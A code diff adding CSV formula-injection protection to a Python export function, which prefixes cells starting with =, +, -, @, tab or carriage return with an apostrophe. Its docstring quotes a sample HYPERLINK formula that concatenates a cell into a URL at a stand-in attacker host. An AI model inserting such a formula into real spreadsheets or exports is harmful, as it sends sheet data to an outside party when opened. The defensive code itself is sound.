@@ -333,8 +333,29 @@ def claim_records(db: Database, *, article_id: int | None = None) -> Iterator[di
         yield c
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_formula(value: Any) -> Any:
+    """A text cell a spreadsheet would run as a formula (it starts with = + - @, a tab or a
+    carriage return) gets a leading apostrophe, so it is shown as text; other cells as they are.
+    An article paragraph `=HYPERLINK("http://evil.example/?d="&A1, ...)` must not become a link
+    that sends the sheet away when an editor opens the export."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class _SafeWriter:
+    def __init__(self, stream: IO[str]) -> None:
+        self._writer = csv.writer(stream, lineterminator="\n")
+
+    def writerow(self, row: list[Any]) -> None:
+        self._writer.writerow([neutralise_formula(v) for v in row])
+
+
 def _write_csv(db: Database, records: list[dict[str, Any]], stream: IO[str]) -> None:
-    writer = csv.writer(stream, lineterminator="\n")
+    writer = _SafeWriter(stream)
     writer.writerow(CSV_COLUMNS)
     for c in records:
         base = [c["id"], c["article_id"], c["text"], c["status"], c["priority"], c["score"], c["verdict"],
